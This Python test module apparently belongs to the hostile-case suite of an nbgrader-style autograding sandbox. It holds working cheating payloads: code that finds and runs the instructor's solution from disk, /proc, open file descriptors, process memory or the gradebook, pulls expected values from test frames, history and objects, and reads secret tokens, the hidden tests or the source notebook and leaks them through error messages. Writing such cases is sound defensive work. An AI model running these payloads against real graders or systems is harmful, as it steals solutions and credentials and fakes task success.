"""Looking for the tests, the expected values or the solution: in memory, on the disk, in other processes."""

from __future__ import annotations

from typing import Any

from tests.hostile.case import Case, attack

#: Take the solution out of whatever text holds the instructor's notebook or another student's, and use it.
_USE = """
import json as _json, os, sys
def _use(text):
    try:
        cells = _json.loads(text)["cells"]
    except Exception:
        return False
    for cell in cells:
        try:
            if cell["metadata"]["nbgrader"]["grade_id"] == aim.cell:
                source = "".join(cell["source"])
                if "NotImplementedError" not in source or "SOLUTION" in source:
                    exec(source, globals())
                    return True
        except Exception:
            pass
    return False
def _try(path):
    try:
        if not os.path.isfile(path) or os.path.getsize(path) > 20_000_000:
            return False
        with open(path, errors="replace") as file:
            return _use(file.read())
    except OSError:
        return False
def _search(folder, most=4000):
    for here, folders, files in os.walk(folder):
        folders[:] = [name for name in folders if name in ("source", "submitted", "other", aim.assignment, "course") or here != folder]
        for name in files:
            most -= 1
            if most < 0:
                return False
            if name == aim.stem + ".ipynb" and "release" not in here and _try(os.path.join(here, name)):
                return True
    return False
"""
_UPWARDS = """
_here = os.getcwd()
while not _search(_here) and _here != "/":
    _here = os.path.dirname(_here)
"""
_CWDS = """
for _process in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if _process.isdigit():
        for _way in ("cwd", "root" + aim.course):
            if _search(f"/proc/{_process}/{_way}"):
                break
"""
_KNOWN = """
for _tree in ("source", "submitted/other"):
    _try(f"{aim.course}/{_tree}/{aim.assignment}/{aim.stem}.ipynb")
_search(aim.home)
"""
_LEADS = """
for _value in [*os.environ.values(), *sys.path, *sys.argv, sys.executable]:
    for _part in str(_value).split(os.pathsep):
        if os.path.isabs(_part) and len(_part) > 5:
            _try(_part)
            _search(_part, 300)
            _search(os.path.dirname(_part), 300)
"""
_DESCRIPTORS = """
for _number in range(3, 256):
    try:
        if os.path.isfile(f"/proc/self/fd/{_number}") and _use(os.pread(_number, 20_000_000, 0).decode(errors="replace")):
            break
        os.fchdir(_number)
        _search(".")
    except OSError:
        pass
"""
_GRADEBOOK = """
import sqlite3
try:
    _db = sqlite3.connect(f"file:{aim.course}/gradebook.db?mode=ro", uri=True)
    for (_source,) in _db.execute("select source from source_cell where name = ?", (aim.cell,)):
        exec(_source, globals())
except Exception:
    pass
"""
_MEMORY = """
import re
def _read(process):
    left = 64 << 20
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if " rw" in line and left > 0 and "[v" not in line:
                try:
                    memory.seek(start)
                    data = memory.read(min(end - start, left))
                except (OSError, ValueError, OverflowError):
                    continue
                left -= len(data)
                for found in re.finditer(rb'[{]\\s*"cells"', data):
                    if _use(data[found.start():].split(b"\\0")[0].decode(errors="replace")):
                        return
for _process in {}:
    try:
        _read(_process)
    except OSError:
        pass
"""
#: The tests as text, from wherever they lie in this process; then the other side of each comparison.
_ANSWER = """
import ast, gc, sys, types
_open = set()
def _answers(text, names):
    try:
        tree = ast.parse(text)
    except Exception:
        return
    for node in ast.walk(tree):
        sides = []
        if isinstance(node, ast.Compare):
            sides = [(node.left, node.comparators[0]), (node.comparators[0], node.left)]
        elif isinstance(node, ast.Call) and len(node.args) > 1:
            sides = [(node.args[0], node.args[1]), (node.args[1], node.args[0])]
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.args:
            sides = [(node.func.value, node.args[0])]
        for side, other in sides:
            if any(isinstance(n, ast.Name) and n.id in aim.exports for n in ast.walk(side)):
                try:
                    yield eval(compile(ast.Expression(other), "x", "eval"), names)
                except BaseException:
                    pass
"""
_FRAMES = (
    _ANSWER
    + """
import linecache
_given = {}
def _copying(*args, **kwargs):
    frame = sys._getframe(1)
    while frame:
        lines = linecache.getlines(frame.f_code.co_filename)
        found = list(_answers("".join(lines), {**frame.f_globals, **frame.f_locals}))
        if found:
            turn = _given[frame.f_code] = _given.get(frame.f_code, -1) + 1
            return found[turn % len(found)]
        for name in ("expected", "want", "desired", "answer", "solution"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
for _name in aim.exports:
    globals()[_name] = _copying
"""
)
_LINE = """
import ast, linecache, sys
def _reader(*args, **kwargs):
    frame = sys._getframe(1)
    while frame:
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        for cut in (text, text.split(",")[0]):
            try:
                for node in ast.walk(ast.parse(cut)):
                    if isinstance(node, ast.Compare):
                        side = node.comparators[0]
                        return eval(compile(ast.Expression(side), "x", "eval"), frame.f_globals, frame.f_locals)
            except BaseException:
                pass
        frame = frame.f_back
for _name in aim.exports:
    globals()[_name] = _reader
"""
_HISTORY = (
    _ANSWER
    + """
def _remembering(*args, **kwargs):
    names = globals()
    for key in ("_ih", "In", "_i", "_ii", "_iii"):
        texts = names.get(key) or []
        for text in reversed([texts] if isinstance(texts, str) else list(texts)):
            for value in _answers(text, names):
                return value
for _name in aim.exports:
    globals()[_name] = _remembering
"""
)
_HISTORY_FILE = (
    _ANSWER
    + """
def _historian(*args, **kwargs):
    try:
        for _, _, text in get_ipython().history_manager.get_range(output=False):
            for value in _answers(text, globals()):
                return value
    except Exception:
        return None
for _name in aim.exports:
    globals()[_name] = _historian
"""
)
_OBJECTS = (
    _ANSWER
    + """
def _collector(*args, **kwargs):
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            for text in list(thing.values()):
                if isinstance(text, str) and ("assert" in text or "HIDDEN" in text) and any(n in text for n in aim.exports):
                    for value in _answers(text, globals()):
                        return value
        elif isinstance(thing, types.FrameType):
            if "expected" in thing.f_locals:
                return thing.f_locals["expected"]
for _name in aim.exports:
    globals()[_name] = _collector
"""
)
_CODE = """
import gc, types
def _constants(*args, **kwargs):
    for thing in gc.get_objects():
        code = getattr(thing, "__code__", None) or getattr(thing, "f_code", None)
        if isinstance(code, types.CodeType) and set(code.co_names) & set(aim.exports) and code.co_name == "<module>":
            for value in code.co_consts:
                if isinstance(value, (int, float)) and not isinstance(value, bool):
                    return value
for _name in aim.exports:
    globals()[_name] = _constants
"""
#: Values that the test compares with lie in its frame; an object learns them when it is compared.
_LEARNS = """
import sys
class Learner:
    def __eq__(self, other):
        frame = sys._getframe(1)
        Learner.seen = other
        return Learner.seen == other
    def __ne__(self, other): return not self == other
    def __hash__(self): return 1
for _name in aim.exports:
    globals()[_name] = lambda *args, **kwargs: Learner()
"""
_SECRET = """
import os, glob
_found = [os.environ.get("SECRET_TOKEN", "")]
for _path in [*glob.glob("/proc/*/environ"), aim.home + "/.netrc", aim.home + "/.bash_history"]:
    try:
        with open(_path, "rb") as _file:
            for _item in _file.read(1 << 20).split(b"\\0"):
                if b"SECRET_TOKEN" in _item:
                    _found.append(_item.decode(errors="replace"))
    except OSError:
        pass
def _tell(*args, **kwargs):
    raise ValueError("Got: " + " ".join(_found)[-3000:])
for _name in aim.exports:
    globals()[_name] = _tell
"""
_TELL_TESTS = """
import gc
def _tell(*args, **kwargs):
    texts = [t for d in gc.get_objects() if isinstance(d, dict) for t in list(d.values()) if isinstance(t, str) and "HIDDEN" + " TESTS" in t]
    texts += [t for t in globals().get("_ih", [])]
    raise AssertionError("Got: " + "\\n".join(texts)[-4000:])
for _name in aim.exports:
    globals()[_name] = _tell
"""
_TELL_SOURCE = """
def _tell(*args, **kwargs):
    try:
        text = open(f"{aim.course}/source/{aim.assignment}/{aim.stem}.ipynb").read()
    except OSError:
        text = ""
    raise AssertionError("\\nCalled: it\\nGot: " + text.replace("\\\\n", "\\n")[-200_000:] + "\\nExpected: more")
for _name in aim.exports:
    globals()[_name] = _tell
"""


def _finds(name: str, why: str, code: str, **more: Any) -> Case:
    return attack(name, why, _USE + code, **more)


CASES = [
    _finds("solution-upwards", "the instructor's notebook, from the working folder upwards", _UPWARDS),
    _finds("solution-of-processes", "the same in the working folders of all processes", _CWDS),
    _finds("solution-known", "the same, and another student's, where a public course has them", _KNOWN),
    _finds("solution-by-leads", "the same along every path in the environment, arguments and sys.path", _LEADS),
    _finds("solution-open-files", "the same through inherited file descriptors", _DESCRIPTORS),
    _finds("solution-gradebook", "the solution in the gradebook, where nbgrader keeps the source of every cell", _GRADEBOOK),
    _finds("solution-own-memory", "the instructor's notebook in its own memory", _MEMORY.replace("in {}:", "in (os.getpid(),):")),
    _finds("solution-parent-memory", "the instructor's notebook in the memory of the parent", _MEMORY.replace("in {}:", "in (os.getppid(),):")),
    attack("expected-frames", "expected values, worked out from the source of the frames above", _FRAMES),
    attack("expected-line", "the other side of the comparison in the line that calls", _LINE),
    attack("expected-history", "expected values from In, _ih and _i", _HISTORY),
    attack("expected-history-file", "expected values from the shell's history", _HISTORY_FILE),
    attack("expected-objects", "expected values from all objects of the process", _OBJECTS),
    attack("expected-constants", "expected values from the constants of compiled tests", _CODE),
    attack("expected-learnt", "an object that learns what it is compared with", _LEARNS),
    attack("tells-secret", "the environment's secrets, told in an error message", _SECRET),
    attack("tells-tests", "the hidden tests, told in an error message", _TELL_TESTS),
    attack("tells-source", "the instructor's notebook, told in an error message", _TELL_SOURCE),
]  # fmt: skip
